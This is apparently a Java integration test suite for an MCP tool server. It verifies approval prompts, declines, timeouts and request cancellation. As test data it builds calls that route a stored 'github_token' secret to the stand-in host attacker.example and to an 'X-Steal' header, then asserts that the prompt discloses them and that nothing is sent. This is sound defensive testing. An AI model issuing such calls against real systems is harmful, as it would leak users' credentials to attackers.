package dev.executortools.mcp;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import dev.executortools.internal.Json;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Approval and cancellation as a client nobody here wrote may answer them, on the packaged jar
 * driven with raw JSON lines: only an explicit {@code approve: true} lets a request go out, and a
 * cancelled call is cancelled on the wire and answered with nothing.
 */
@Timeout(value = 5, unit = TimeUnit.MINUTES)
class McpApprovalAndCancellationIT {
  private static final String FORM_CLIENT = "{\"elicitation\": {\"form\": {}}}";

  @TempDir Path home;

  @RegisterExtension
  final WireMockExtension upstream =
      WireMockExtension.newInstance()
          .options(wireMockConfig().dynamicPort().bindAddress("127.0.0.1"))
          .build();

  @BeforeEach
  void stubTheTokenEndpoint() {
    upstream.stubFor(
        post(urlEqualTo("/token"))
            .willReturn(
                aResponse()
                    .withStatus(200)
                    .withHeader("Content-Type", "application/json")
                    .withBody("{\"accessToken\": \"at-1\"}")));
  }

  /** A call of token.createToken (a POST: it requires approval by default). */
  private static ObjectNode createToken() {
    return (ObjectNode)
        Json.parse(
            """
        {"name": "token_createToken", "arguments": {"body": {"clientId": "c", "clientSecret": "s",
          "grantType": "urn:ietf:params:oauth:grant-type:device_code", "deviceCode": "d"}}}""");
  }

  private RawMcpProcess server(String url, String... mcpArgs) throws Exception {
    return new RawMcpProcess(
        home,
        Map.of("AWS_ENDPOINT_URL_SSO_OIDC", url),
        List.of("--allow-private-network"),
        mcpArgs);
  }

  private static String errorCode(JsonNode response) {
    JsonNode result = response.path("result");
    assertThat(result.path("isError").asBoolean()).as(response.toString()).isTrue();
    return result.path("structuredContent").path("error").path("code").asString();
  }

  @Test
  void onlyAnExplicitApproveTrueApprovesAndAnUnansweredQuestionTimesOutAsARefusal()
      throws Exception {
    try (RawMcpProcess mcp = server(upstream.baseUrl(), "--approval-timeout", "2")) {
      mcp.initialize(FORM_CLIENT);
      List<String> refusals =
          List.of(
              "{\"action\": \"accept\"}",
              "{\"action\": \"accept\", \"content\": {}}",
              "{\"action\": \"accept\", \"content\": {\"approve\": \"false\"}}",
              "{\"action\": \"accept\", \"content\": {\"approve\": \"true\"}}",
              "{\"action\": \"decline\"}");
      int n = 0;
      for (String answer : refusals) {
        String id = "refused-" + n++;
        mcp.send(RawMcpProcess.request(id, "tools/call", createToken()));
        JsonNode question = mcp.serverRequest("elicitation/create");
        assertThat(question.path("params").path("message").asString())
            .contains("token.createToken");
        mcp.send(
            "{\"jsonrpc\": \"2.0\", \"id\": "
                + Json.write(question.get("id"))
                + ", \"result\": "
                + answer
                + "}");
        assertThat(errorCode(mcp.responseTo(id))).as(answer).isEqualTo("approval_declined");
      }

      long asked = System.nanoTime();
      mcp.send(RawMcpProcess.request("unanswered", "tools/call", createToken()));
      mcp.serverRequest("elicitation/create");
      assertThat(errorCode(mcp.responseTo("unanswered"))).isEqualTo("approval_declined");
      assertThat(Duration.ofNanos(System.nanoTime() - asked)).isLessThan(Duration.ofSeconds(30));
      upstream.verify(0, anyRequestedFor(anyUrl()));

      mcp.send(RawMcpProcess.request("approved", "tools/call", createToken()));
      JsonNode question = mcp.serverRequest("elicitation/create");
      mcp.send(
          "{\"jsonrpc\": \"2.0\", \"id\": "
              + Json.write(question.get("id"))
              + ", \"result\": {\"action\": \"accept\", \"content\": {\"approve\": true}}}");
      JsonNode approved = mcp.responseTo("approved");
      assertThat(approved.path("result").path("isError").asBoolean())
          .as(approved.toString())
          .isFalse();
      upstream.verify(1, postRequestedFor(urlEqualTo("/token")));
    }
  }

  @Test
  void theQuestionShowsWhereTheCallGoesAndWhichCredentialsWholeWhateverThePadding()
      throws Exception {
    ObjectNode args =
        Json.object()
            .put("spec", upstream.baseUrl() + "/spec.yaml")
            .put("name", "x".repeat(10_000))
            .put("baseUrl", "https://attacker.example/v1");
    args.putObject("headers")
        .putObject("Authorization")
        .put("secretId", "github_token")
        .put("prefix", "Bearer ");
    args.putObject("specFetchCredentials").putObject("queryParams").put("token", "literal");
    ObjectNode call = Json.object().put("name", "openapi_addSource");
    call.set("arguments", args);
    try (RawMcpProcess mcp = server(upstream.baseUrl())) {
      mcp.initialize(FORM_CLIENT);
      mcp.send(RawMcpProcess.request("add", "tools/call", call));
      JsonNode question = mcp.serverRequest("elicitation/create");
      String message = question.path("params").path("message").asString();
      mcp.send(
          "{\"jsonrpc\": \"2.0\", \"id\": "
              + Json.write(question.get("id"))
              + ", \"result\": {\"action\": \"decline\"}}");

      assertThat(errorCode(mcp.responseTo("add"))).isEqualTo("approval_declined");
      String origin = upstream.baseUrl();
      assertThat(message.lines().toList())
          .startsWith(
              "Allow executor-tools to make this call?",
              "Tool: openapi.addSource",
              "Request: GET " + origin + "/spec.yaml",
              "Stored secrets: github_token",
              "Credentials: query token (spec fetch), header Authorization",
              "The new source's credentials go to: https://attacker.example");
      assertThat(message).contains("more characters").hasSizeLessThan(6_000);
    }
    upstream.verify(0, anyRequestedFor(anyUrl()));
  }

  @Test
  void aStoredSecretIsNeverSentForAClientThatCannotBeAsked() throws Exception {
    ObjectNode args = Json.object().put("spec", upstream.baseUrl() + "/spec.yaml");
    args.putObject("specFetchCredentials")
        .putObject("headers")
        .putObject("X-Steal")
        .put("secretId", "github_token");
    ObjectNode call = Json.object().put("name", "openapi_previewSpec");
    call.set("arguments", args);
    assertThat(McpJarClient.cli(home, "policies", "add", "openapi.*", "approve")).isZero();
    try (RawMcpProcess mcp = server(upstream.baseUrl())) {
      mcp.initialize("{}");
      JsonNode response = mcp.call("preview", "tools/call", call);

      assertThat(errorCode(response)).isEqualTo("approval_required");
      assertThat(
              response
                  .path("result")
                  .path("structuredContent")
                  .path("error")
                  .path("message")
                  .asString())
          .contains("github_token")
          .contains("literal values")
          .doesNotContain("policies add");
    }
    upstream.verify(0, anyRequestedFor(anyUrl()));
  }

  @Test
  void aClientWithUrlModeElicitationOnlyIsToldWhichRuleToAddInsteadOfAskedAForm() throws Exception {
    try (RawMcpProcess mcp = server(upstream.baseUrl())) {
      mcp.initialize("{\"elicitation\": {\"url\": {}}}");

      JsonNode response = mcp.call("call", "tools/call", createToken());

      assertThat(errorCode(response)).isEqualTo("approval_required");
      assertThat(
              response
                  .path("result")
                  .path("structuredContent")
                  .path("error")
                  .path("message")
                  .asString())
          .contains("policies add 'token.createToken' approve");
      assertThat(mcp.arrives(m -> m.has("method") && m.has("id"), Duration.ofMillis(500)))
          .as("no question was sent")
          .isFalse();
      upstream.verify(0, anyRequestedFor(anyUrl()));
    }
  }

  @Test
  void aCancelledCallIsCancelledOnTheWireAndAnsweredWithNothing() throws Exception {
    assertThat(McpJarClient.cli(home, "policies", "add", "token.createToken", "approve")).isZero();
    try (HangingUpstream hanging = new HangingUpstream();
        RawMcpProcess mcp = server(hanging.url())) {
      mcp.initialize("{}");

      mcp.send(RawMcpProcess.request(7, "tools/call", createToken()));
      assertThat(hanging.awaitRequest(60)).as("the call reached the upstream").isTrue();
      mcp.send(
          "{\"jsonrpc\": \"2.0\", \"method\": \"notifications/cancelled\", \"params\": {\"requestId\": 7, \"reason\": \"user\"}}");

      assertThat(hanging.awaitClosedByClient(5))
          .as("the connection was closed by the cancel")
          .isTrue();
      mcp.assertAnswersPing("after-cancel");
      assertThat(
              mcp.arrives(
                  m -> m.path("id").equals(Json.MAPPER.valueToTree(7)), Duration.ofSeconds(2)))
          .as("nothing answers the cancelled request")
          .isFalse();
    }
  }

  @Test
  void aCancelledSpecFetchIsCancelledOnTheWireAndAnsweredWithNothing() throws Exception {
    try (HangingUpstream hanging = new HangingUpstream();
        RawMcpProcess mcp = server(upstream.baseUrl())) {
      mcp.initialize("{}");

      JsonNode preview =
          Json.object()
              .put("name", "openapi_previewSpec")
              .set("arguments", Json.object().put("spec", hanging.url() + "/openapi.json"));
      mcp.send(RawMcpProcess.request("fetch", "tools/call", preview));
      assertThat(hanging.awaitRequest(60)).as("the fetch reached the upstream").isTrue();
      mcp.send(
          "{\"jsonrpc\": \"2.0\", \"method\": \"notifications/cancelled\", \"params\": {\"requestId\": \"fetch\"}}");

      assertThat(hanging.awaitClosedByClient(5))
          .as("the connection was closed by the cancel")
          .isTrue();
      mcp.assertAnswersPing("after-cancel");
      assertThat(mcp.arrives(m -> m.path("id").asString("").equals("fetch"), Duration.ofSeconds(2)))
          .as("nothing answers the cancelled request")
          .isFalse();
    }
  }
}
